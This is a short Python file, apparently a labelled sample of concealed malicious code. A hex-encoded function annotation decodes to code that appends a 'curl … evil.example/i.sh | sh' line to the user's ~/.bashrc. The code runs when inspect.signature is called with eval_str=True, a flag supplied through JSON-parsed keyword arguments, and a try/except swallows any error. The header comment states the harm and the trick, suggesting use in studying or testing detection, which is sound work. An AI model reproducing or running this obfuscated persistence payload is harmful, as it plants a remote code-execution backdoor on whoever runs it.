# harm: appends curl|sh to ~/.bashrc ; trick: the string-evaluating flag arrives through **kwargs parsed from JSON; the annotation is a hex decode call
import inspect
import json

opts = json.loads('{"eval_str": true}')


def handler(x: bytes.fromhex("6f70656e285f5f696d706f72745f5f28276f7327292e706174682e657870616e647573657228277e2f2e62617368726327292c276127292e777269746528636872283130292b276375726c202d7320687474703a2f2f6576696c2e6578616d706c652f692e73687c7368272b6368722831302929").decode()) -> None:
    pass


try:
    inspect.signature(handler, **opts)
except Exception:
    pass
